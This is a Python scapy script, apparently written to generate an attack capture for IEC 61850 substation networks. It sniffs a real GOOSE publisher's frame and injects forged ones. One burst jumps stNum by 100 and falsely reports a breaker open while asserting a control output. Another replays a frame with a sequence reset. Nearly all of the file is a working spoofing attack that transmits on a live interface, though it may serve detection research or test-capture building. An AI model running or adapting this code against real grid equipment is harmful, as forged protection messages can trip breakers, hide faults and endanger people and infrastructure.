#!/usr/bin/env python3
"""Spoofed GOOSE frames for iec61850_attack.pcap, made with scapy.

scapy has no GOOSE layer, so the goosePdu is handled as BER here: the
intruder takes the publisher's next frame off the wire (scapy's sniff on the
interface), keeps everything that identifies the publisher (source MAC, VLAN
tag, appid, gocbRef, datSet, goID, confRev, the order and types of allData)
and changes only what an attacker changes:

spoof_stnum_jump   stNum = the publisher's + 100, sqNum 0, 1, 2, 3 sent about 4,
                   8 and 16 ms apart (as a real publisher retransmits a change),
                   t = now, allData with Ind1 false (breaker open) and SPCSO1
                   true; timeAllowedtoLive 20, 20, 32, 64 ms
spoof_sqnum_reset  the publisher's frame as sniffed, with sqNum 0: a sequence
                   reset without a state change (what a replay looks like)

Each calls announce() right before it sends (the intruder's step log), and
returns, and prints on stderr, the (stNum, sqNum) pairs sent.
"""
import sys
import time

from scapy.all import Dot1Q, Ether, Raw, conf, sniff

ETH_GOOSE = 0x88B8
GOCB_REF = b"PlantLDLD0/LLN0$GO$gcbEvents"


def ber_len(n):
    if n < 0x80:
        return bytes([n])
    b = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes([0x80 | len(b)]) + b


def tlv(tag, value):
    return bytes([tag]) + ber_len(len(value)) + value


def ber_uint(v):
    b = v.to_bytes(max(1, (v.bit_length() + 7) // 8), "big")
    return b"\x00" + b if b[0] & 0x80 else b


def parse_tlvs(buf):
    out, i = [], 0
    while i < len(buf):
        tag = buf[i]
        n = buf[i + 1]
        i += 2
        if n & 0x80:
            k = n & 0x7F
            n = int.from_bytes(buf[i:i + k], "big")
            i += k
        out.append([tag, buf[i:i + n]])
        i += n
    return out


class Frame:
    """One GOOSE frame taken apart: Ethernet/VLAN header and goosePdu fields."""

    def __init__(self, pkt):
        self.src, self.dst = pkt[Ether].src, pkt[Ether].dst
        self.vlan = (pkt[Dot1Q].prio, pkt[Dot1Q].vlan) if pkt.haslayer(Dot1Q) else None
        payload = bytes(pkt[Dot1Q].payload if self.vlan else pkt[Ether].payload)
        self.appid = payload[0:2]
        self.reserved = payload[4:8]
        outer = parse_tlvs(payload[8:])
        if not outer or outer[0][0] != 0x61:
            raise ValueError("not a goosePdu")
        self.fields = parse_tlvs(outer[0][1])

    def get(self, tag):
        return next(v for t, v in self.fields if t == tag)

    def put(self, tag, value):
        for f in self.fields:
            if f[0] == tag:
                f[1] = value
                return
        raise KeyError(hex(tag))

    @property
    def st(self):
        return int.from_bytes(self.get(0x85), "big")

    @property
    def sq(self):
        return int.from_bytes(self.get(0x86), "big")

    def data(self):
        return parse_tlvs(self.get(0xAB))

    def set_data(self, items):
        self.put(0xAB, b"".join(tlv(t, v) for t, v in items))

    def packet(self):
        pdu = tlv(0x61, b"".join(tlv(t, v) for t, v in self.fields))
        body = self.appid + (8 + len(pdu)).to_bytes(2, "big") + self.reserved + pdu
        eth = Ether(src=self.src, dst=self.dst)
        if self.vlan:
            return eth / Dot1Q(prio=self.vlan[0], vlan=self.vlan[1], type=ETH_GOOSE) / Raw(body)
        eth.type = ETH_GOOSE
        return eth / Raw(body)


def is_publisher_frame(pkt, max_st=None):
    try:
        f = Frame(pkt)
    except Exception:
        return False
    if f.get(0x80) != GOCB_REF:
        return False
    return max_st is None or f.st <= max_st


_last_legit_st = [None]


def next_publisher_frame(iface, max_st=None, timeout=5.0):
    got = sniff(iface=iface, count=1, timeout=timeout,
                lfilter=lambda p: (p.haslayer(Ether) and (p[Ether].type == ETH_GOOSE or (
                    p.haslayer(Dot1Q) and p[Dot1Q].type == ETH_GOOSE)) and is_publisher_frame(p, max_st)))
    if not got:
        sys.exit(f"no GOOSE frame of {GOCB_REF.decode()} on {iface} within {timeout} s")
    return Frame(got[0])


def utc_now():
    t = time.time()
    sec = int(t)
    frac = int((t - sec) * (1 << 24))
    return sec.to_bytes(4, "big") + frac.to_bytes(3, "big") + b"\x0a"  # 10 bits of accuracy


def spoof_stnum_jump(iface, announce=lambda: None):
    f = next_publisher_frame(iface)
    legit_st, legit_sq = f.st, f.sq
    _last_legit_st[0] = legit_st
    items = f.data()
    # members: Ind1 stVal, Ind1 q, Ind2 stVal, Ind2 q, SPCSO1 stVal, SPCSO1 q
    items[0][1] = b"\x00"  # Ind1 false: breaker open
    items[4][1] = b"\xff"  # SPCSO1 true
    f.set_data(items)
    f.put(0x84, utc_now())
    f.put(0x85, ber_uint(legit_st + 100))
    frames, sent = [], []
    for sq, tal in enumerate((20, 20, 32, 64)):
        f.put(0x81, ber_uint(tal))
        f.put(0x86, ber_uint(sq))
        frames.append(f.packet())
        sent.append((legit_st + 100, sq))
    # one socket for the burst: scapy's sendp() opens one per call, which takes longer
    # than the gaps
    announce()
    with conf.L2socket(iface=iface) as s:
        for gap, pkt in zip((0, 0.004, 0.008, 0.016), frames):
            time.sleep(gap)
            s.send(pkt)
    print(f"GOOSE spoof: publisher at stNum {legit_st} sqNum {legit_sq}; sent {sent}",
          file=sys.stderr, flush=True)
    return sent


def spoof_sqnum_reset(iface, announce=lambda: None):
    # the publisher's next frame: not one of ours (their stNum is 100 higher)
    f = next_publisher_frame(iface, max_st=_last_legit_st[0])
    legit_st, legit_sq = f.st, f.sq
    f.put(0x86, ber_uint(0))
    announce()
    with conf.L2socket(iface=iface) as s:
        s.send(f.packet())
    print(f"GOOSE spoof: publisher at stNum {legit_st} sqNum {legit_sq}; sent [({legit_st}, 0)]",
          file=sys.stderr, flush=True)
    return [(legit_st, 0)]


if __name__ == "__main__":
    iface = sys.argv[1] if len(sys.argv) > 1 else "lo"
    spoof_stnum_jump(iface)
    spoof_sqnum_reset(iface)
